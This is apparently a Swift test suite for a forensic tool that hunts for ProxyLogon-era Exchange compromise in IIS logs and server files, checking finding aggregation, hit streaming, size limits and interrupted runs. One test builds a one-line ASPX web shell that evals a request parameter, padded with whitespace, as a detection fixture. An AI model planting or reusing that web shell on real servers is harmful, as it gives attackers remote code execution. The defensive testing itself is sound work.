import Foundation
import Testing
import Crypto
import Hunt
import HuntCore
import Findings
import Reports
import TestSupport

/// Findings aggregated as they are found, every hit still streamed, and memory bounded whatever
/// the evidence (issue 13).
@Suite(.timeLimit(.minutes(20))) struct AggregationTests {
    static let entryRule = "6d1f0a52-6b1e-4c55-9f0e-1a2b7e0d2613"

    /// An IIS log of `perAddress` probes from each address (of `/owa/auth/x.js`, or of a URL of
    /// each address's own), among ordinary requests.
    static func massScan(addresses: [String], perAddress: Int, urlPerAddress: Bool = false) -> String {
        var lines: [String] = []
        var second = 0
        func time() -> String {
            second += 1
            return String(format: "2021-03-0%d %02d:%02d:%02d", 3 + second / 86_400, second / 3600 % 24, second / 60 % 60, second % 60)
        }
        for i in 0..<perAddress {
            for (n, a) in addresses.enumerated() {
                let stem = urlPerAddress ? "/owa/auth/a\(n).js" : "/owa/auth/x.js"
                lines.append("\(time()) 10.0.0.10 GET \(stem) - 443 - \(a) ExchangeServicesClient/0.0.0.0 - 200 0 0 3")
            }
            if i % 100 == 0 {
                lines.append("\(time()) 10.0.0.10 GET /owa/auth/logon.aspx url=%2fowa%2f 443 - 10.0.0.6 Mozilla/5.0 - 200 0 0 3")
            }
        }
        return ExchangeFamilyPackTests.iis(lines)
    }

    static func config(_ root: URL) -> HuntConfiguration {
        var c = HuntConfiguration(evidence: root)
        c.jobs = 2
        return c
    }

    /// A probe (weighed attempted) from many addresses is one finding per target that counts the
    /// addresses (Rules/grouping.yml's `aggregate`, issue 33); `--hits` still has every hit.
    @Test func aMassScanIsOneFindingPerTargetCountingItsAddressesAndEveryHitIsStreamed() throws {
        let root = try tempDir()
        let addresses = ["198.51.100.1", "198.51.100.2", "198.51.100.3"]
        try put(root, "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", Self.massScan(addresses: addresses, perAddress: 2_000))
        let out = try tempDir("aMassScanIsOneFindingPerTargetCountingItsAddressesAndEveryHitIsStreamed-out")
        let json = out.appendingPathComponent("report.json")
        let hits = out.appendingPathComponent("hits.jsonl")
        let r = try runCLI(["hunt", root.path, "-o", json.path, "--hits", hits.path, "--quiet", "--no-progress"])
        #expect(r.status == 1, "\(r.stderr)")
        let report = try JSONReport.decode(Data(contentsOf: json))
        #expect(report.complete)
        #expect(report.verdict == .attempted)
        let probes = report.findings.filter { $0.rule.id == Self.entryRule }
        #expect(probes.count == 1, "one finding per URL, its addresses counted")
        #expect(probes.allSatisfy { $0.count == 6_000 && $0.samples.count == 5 && $0.group == ["cs-uri-stem": "/owa/auth/x.js"] })
        let spread = try #require(probes.first?.spread)
        #expect(spread.field == "c-ip" && spread.distinct == 3 && !spread.estimated && spread.exact)
        #expect(Set(spread.top.map(\.value)) == Set(addresses) && spread.top.allSatisfy { $0.hits == 2_000 })
        for p in probes {
            let first = try #require(p.timestamp), last = try #require(p.lastSeen)
            #expect(last.timeIntervalSince(first) > 5_000, "first and last hit of 2,000 spread over 6,000 seconds")
            #expect(p.samples.first?.line == p.evidence.line)
        }
        #expect(report.stats.hits >= 6_000)
        // The streamed hits are every one of them, each a finding of its own.
        let lines = try String(contentsOf: hits, encoding: .utf8).split(separator: "\n")
        var streamed = 0
        var lineNumbers = Set<Int>()
        for line in lines {
            let o = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            guard (o["rule"] as? [String: Any])?["id"] as? String == Self.entryRule else { continue }
            streamed += 1
            if let n = (o["evidence"] as? [String: Any])?["line"] as? Int { lineNumbers.insert(n) }
            #expect(o["count"] == nil, "a hit is not an aggregate")
        }
        #expect(streamed == 6_000)
        #expect(lineNumbers.count == 6_000)
    }

    @Test func testProxyLogonFilesGetEveryHitNotEveryFinding() async throws {
        let dir = try tempDir()
        var config = HuntConfiguration(evidence: samples.appendingPathComponent("compromised-server"))
        config.jobs = 2
        let stream = try TestProxyLogonCSV(directory: dir)
        config.streams = [stream]
        let r = try await Hunter(configuration: config, detectors: try await Detectors.load(builtin: true, extra: [])).run()
        try stream.finish(r)
        // Named for the host the evidence names, not the folder; nothing provisional left behind.
        #expect(r.host != "compromised-server" && r.hostSource != "folder name", "\(r.host) \(r.hostSource)")
        let names = try FileManager.default.contentsOfDirectory(atPath: dir.path)
        #expect(!names.isEmpty && names.allSatisfy { $0.hasPrefix("\(r.host)-") }, "\(names)")
        let rows = try String(contentsOf: dir.appendingPathComponent("\(r.host)-Cve-2021-26855.csv"), encoding: .utf8)
            .split(separator: "\r\n").count - 1
        let findings = r.findings.filter { $0.tpl == "Cve-2021-26855" }
        #expect(rows == findings.reduce(0) { $0 + $1.count })
        #expect(rows > findings.count, "the sample's SSRF requests share an address and URL")
    }

    @Test func groupsBeyondTheLimitFoldIntoOneFindingAndTheReportSaysSo() async throws {
        let root = try tempDir()
        let addresses = (1...50).map { "203.0.113.\($0)" }
        try put(root, "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", Self.massScan(addresses: addresses, perAddress: 3, urlPerAddress: true))
        var config = Self.config(root)
        config.limits.groupsPerRule = 10
        let r = try await Hunter(configuration: config, detectors: try await Detectors.load(builtin: true, extra: [])).run()
        let probes = r.findings.filter { $0.rule.id == Self.entryRule }
        #expect(probes.count == 11)
        #expect(probes.reduce(0) { $0 + $1.count } == 150, "no hit is lost, only folded")
        let folded = try #require(probes.first { $0.group["cs-uri-stem"] == FindingsSink.overflowValue })
        #expect(folded.count == 120 && folded.spread?.distinct == 40, "the folded finding still counts its addresses")
        #expect(r.problems.contains { $0.code == "aggregation-limit" && $0.message.contains(Self.entryRule) })
    }

    @Test func aFileOverTheSizeLimitIsHashedAndNamedNotHidden() async throws {
        let root = try tempDir()
        // A web shell padded past --max-file-size.
        var shell = Data("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>".utf8)
        shell.append(Data(repeating: 0x20, count: 3 << 20))
        try put(root, "C/inetpub/wwwroot/aspnet_client/system_web/padded.aspx", shell)
        let digest = SHA256.hash(data: shell).map { String(format: "%02x", $0) }.joined()
        let iocs = try tempDir("aFileOverTheSizeLimitIsHashedAndNamedNotHidden-iocs")
        try put(iocs, "mine.csv", "type,value,source\nsha256,\(digest),test case\n")
        var config = Self.config(root)
        config.contentLimit = 1 << 20
        var sources = Detectors.Sources()
        sources.indicators = [iocs]
        let r = try await Hunter(configuration: config, detectors: try await Detectors.load(sources)).run()
        #expect(r.verdict == .compromised)
        #expect(r.findings.contains { $0.rule.id == "exhunt-ioc-sha256" && $0.evidence.sha256 == digest })
        let note = try #require(r.problems.first { $0.code == "not-content-scanned" })
        #expect(note.path?.hasSuffix("padded.aspx") == true && note.message.contains("3 MiB"))
        #expect(r.manifest.contains { $0.path.hasSuffix("padded.aspx") && $0.sha256 == digest })
    }

    @Test func anInterruptedHuntIsMarkedIncompleteAndNeverClean() async throws {
        let config = HuntConfiguration(evidence: samples.appendingPathComponent("clean-server"))
        config.cancellation.cancel()
        let r = try await Hunter(configuration: config, detectors: try await Detectors.load(builtin: true, extra: [])).run()
        #expect(!r.complete)
        #expect(r.verdict == .inconclusive)
        #expect(r.problems.contains { $0.code == "incomplete" })
        let whole = try await hunt(samples.appendingPathComponent("clean-server"))
        #expect(whole.complete && whole.verdict == .clean)
    }

    @Test func oneWorkerFindsWhatTwoFind() async throws {
        let detectors = try await Detectors.load(builtin: true, extra: [])
        func run(_ jobs: Int) async throws -> [String: Int] {
            var c = HuntConfiguration(evidence: samples.appendingPathComponent("compromised-server"))
            c.jobs = jobs
            let r = try await Hunter(configuration: c, detectors: detectors).run()
            var counts: [String: Int] = [:]
            for f in r.findings { counts[f.rule.id + " " + f.group.sorted { $0.key < $1.key }.map(\.value).joined(separator: ","), default: 0] += f.count }
            return counts
        }
        let one = try await run(1)
        #expect(!one.isEmpty)
        #expect(one == (try await run(2)))
    }
}
